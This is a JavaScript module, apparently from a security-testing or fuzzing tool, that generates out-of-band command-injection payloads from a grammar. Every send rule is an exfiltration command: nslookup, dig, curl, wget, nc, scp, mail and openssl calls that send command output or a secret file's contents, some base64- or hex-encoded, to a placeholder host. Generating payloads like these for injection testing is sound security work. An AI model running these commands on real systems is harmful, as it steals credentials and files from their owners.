import { commandGenerator } from '../command-generator.js';

/** The answer leaves by another door: names looked up, pages fetched, mail sent. */
export const outOfBand = commandGenerator({
  name: 'out-of-band',
  rules: {
    start: ['{leave}{sep}{send}{end}', '{inside}$({send}){outside}', '{inside}`{send}`{outside}'],
    value: [
      '$(whoami)',
      '`whoami`',
      '$(id -un)',
      '`hostname`',
      '$(uname -r)',
      '$(cat {secret}|base64 -w0)',
      '$(head -c{digit} {secret}|xxd -p)',
      '$USER',
      '$HOSTNAME',
    ],
    send: [
      'nslookup {value}.{host}',
      'dig {value}.{host}',
      'host {value}.{host}',
      'dig @{host} {value} txt',
      'ping -c1 {value}.{host}',
      'curl http://{host}/{value}',
      'curl -d @{secret} {host}',
      'curl -F f=@{secret} http://{host}:{port}/',
      'curl -X POST --data-binary @{secret} https://{host}',
      'curl -H "x: {value}" {host}',
      'wget http://{host}/?{value}',
      'wget --post-file={secret} http://{host}/',
      'wget -q {host}/{value} -O /dev/null',
      'nc {host} {port} < {secret}',
      'cat {secret} | nc -w1 {host} {port}',
      'scp {secret} user@{host}:',
      'mail -s x root@{host} < {secret}',
      'sendmail root@{host} < {secret}',
      'logger -n {host} {value}',
      'ftp {host}',
      'openssl s_client -connect {host}:{port} < {secret}',
    ],
  },
});
